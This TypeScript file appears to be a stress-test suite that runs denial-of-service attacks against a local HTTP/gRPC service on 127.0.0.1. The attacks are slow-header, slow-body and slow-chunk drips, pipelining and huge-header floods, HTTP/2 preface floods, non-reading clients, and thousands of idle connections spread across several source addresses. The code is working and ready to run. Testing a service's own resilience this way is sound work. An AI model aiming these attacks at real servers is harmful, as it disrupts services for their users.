import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout } from "node:timers/promises";
import { type Attack, attack, forEver, source, toll } from "./attack.ts";

const list = "/retake.v1.RunService/ListWorkflows";
const head = (path: string, more = ""): string => `POST ${path} HTTP/1.1\r\nhost: 127.0.0.1\r\n${more}`;
const json = (body: string): string =>
  `content-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
const one = head(list, json("{}"));

/** As many as one source may have, and a few that it may not. */
const mostOfOne = 260;

/** Not from where the victim calls. */
async function open(port: number, from = source): Promise<Socket | undefined> {
  const socket = connect({ port, host: "127.0.0.1", localAddress: from });
  socket.on("error", () => undefined);
  try {
    await once(socket, "connect");
  } catch {
    return undefined;
  }
  toll.open();
  socket.once("close", () => {
    toll.closed += 1;
  });
  return socket;
}

async function openMany(port: number, count: number, from = source): Promise<Socket[]> {
  const opened = await Promise.all(Array.from({ length: count }, () => open(port, from)));
  return opened.filter((socket) => socket !== undefined);
}

/** A byte at a time, on as many connections as there may be: each is made anew when the server has closed it. */
function drip(first: string, next: string): Attack {
  return async (port) => {
    const one = async (): Promise<never> => {
      for (;;) {
        const socket = await open(port);
        socket?.resume();
        socket?.write(first);
        while (socket !== undefined && !socket.destroyed) {
          socket.write(next);
          await setTimeout(100);
        }
        await setTimeout(200);
      }
    };
    await Promise.all(Array.from({ length: mostOfOne }, one));
  };
}

/** The same again and again, as fast as the server reads. */
function flood(connections: number, text: string): Attack {
  return async (port) => {
    const one = async (): Promise<never> => {
      for (;;) {
        const socket = await open(port);
        socket?.resume();
        while (socket !== undefined && !socket.destroyed) {
          if (!socket.write(text))
            await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => undefined);
          await setTimeout(1);
        }
        await setTimeout(5);
      }
    };
    await Promise.all(Array.from({ length: connections }, one));
  };
}

/** Asks for more than is read, and reads nothing. */
function deafTo(request: string, times: number): Attack {
  return async (port) => {
    for (;;) {
      const sockets = await openMany(port, 50);
      for (const socket of sockets) {
        socket.pause();
        socket.write(request.repeat(times));
      }
      await setTimeout(500);
      for (const socket of sockets) socket.destroy();
    }
  };
}

export const webAttacks = {
  "slow headers": drip("GET / HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: ", "y"),
  "slow bodies": drip(head(list, "content-type: application/json\r\ncontent-length: 1000000\r\n\r\n"), " "),
  "slow chunks": drip(head(list, "content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"), "1\r\n \r\n"),
  pipelining: flood(20, one.repeat(50)),
  "huge headers": flood(20, head(list, `x-huge: ${"y".repeat(64_000)}\r\n\r\n`)),
  "HTTP/2 without leave": flood(20, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  "readers that never read": deafTo("GET /metrics HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n", 20),
  "streams that nobody reads": deafTo(
    `${head("/grpc.health.v1.Health/Watch", "content-type: application/connect+json\r\ncontent-length: 7\r\n\r\n")}\0\0\0\0\u0002{}`,
    1,
  ),
  "thousands of idle connections": async (port) => {
    const prefix = source.split(".").slice(0, 3).join(".");
    for (let from = 0; from < 12; from++) await openMany(port, 250, `${prefix}.${100 + from}`);
    await forEver();
  },
} satisfies Record<string, Attack>;

if (import.meta.main) await attack(webAttacks);
